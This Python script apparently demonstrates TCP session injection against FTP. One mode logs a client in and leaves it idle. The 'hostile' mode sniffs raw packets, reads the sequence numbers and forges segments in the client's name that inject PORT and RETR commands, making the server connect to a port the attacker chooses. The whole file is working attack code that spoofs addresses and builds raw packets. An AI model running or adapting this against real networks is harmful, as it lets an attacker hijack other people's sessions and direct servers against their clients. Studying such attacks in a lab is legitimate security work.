#!/usr/bin/env python3
"""An attacker who puts commands into somebody else's FTP session.

    ftp_forged_port.py client SERVER SECONDS
    ftp_forged_port.py hostile CLIENT SERVER PORT GATEWAY-MAC

The client logs in, says NOOP, and then does nothing for a while. The attacker listens to the
server's side of the network, so he knows the sequence numbers. He sends PORT with the client's
own address, and RETR, in the client's name: now the server connects to a port of the client that
the attacker chose.
"""

import socket
import struct
import sys
import time

IPV4, TCP = 0x0800, 6
ACK_PSH = 0x18


def client(server, seconds):
    control = socket.create_connection((server, 21), timeout=20)
    replies = control.makefile("rb")
    replies.readline()
    for command in "USER anonymous", "NOOP":
        control.sendall(command.encode() + b"\r\n")
        replies.readline()
    time.sleep(float(seconds))
    # Its idea of the sequence numbers is not the server's any more: no orderly end.
    control.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    control.close()


def hostile(victim, server, port, gateway):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(IPV4))
    wire.bind(("eth0", 0))
    wire.settimeout(10)
    header = bytes.fromhex(gateway.replace(":", "")) + wire.getsockname()[4]
    header += struct.pack(">H", IPV4)
    announced = ",".join(victim.split(".") + [str(int(port) >> 8), str(int(port) & 255)])
    steps = [(b"200 NOOP", f"PORT {announced}\r\n"), (b"200 PORT", "RETR notes.txt\r\n")]
    for reply, command in steps:
        try:
            segment = wait(wire, server, victim, reply)
        except TimeoutError:
            print("  the server never answered what was put in")
            return
        (client_port, seq, ack) = segment
        payload = command.encode()
        packet = compose(victim, server, client_port, 21, seq, ack, payload)
        wire.send(header + packet)
        print(f"  > {command.strip()}  (in the client's name)")


def wait(wire, source, destination, start):
    """The port, and the next sequence and acknowledgement numbers, of who gets this reply."""
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        packet = wire.recv(65535)[14:]
        if packet[9] != TCP or packet[12:20] != addresses:
            continue
        segment = packet[20 : int.from_bytes(packet[2:4], "big")]
        sport, dport, seq, ack, offset = struct.unpack_from(">HHIIB", segment)
        payload = segment[(offset >> 4) * 4 :]
        if sport == 21 and payload.startswith(start):
            return dport, ack, (seq + len(payload)) & 0xFFFFFFFF
    raise TimeoutError


def compose(source, destination, sport, dport, seq, ack, payload):
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    segment = struct.pack(">HHIIBBHHH", sport, dport, seq, ack, 5 << 4, ACK_PSH, 502, 0, 0)
    segment += payload
    pseudo = addresses + struct.pack(">BBH", 0, TCP, len(segment))
    segment = segment[:16] + struct.pack(">H", checksum(pseudo + segment)) + segment[18:]
    header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(segment), 1, 0x4000, 64, TCP, 0) + addresses
    return header[:10] + struct.pack(">H", checksum(header)) + header[12:] + segment


def checksum(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


if __name__ == "__main__":
    {"client": client, "hostile": hostile}[sys.argv[1]](*sys.argv[2:])
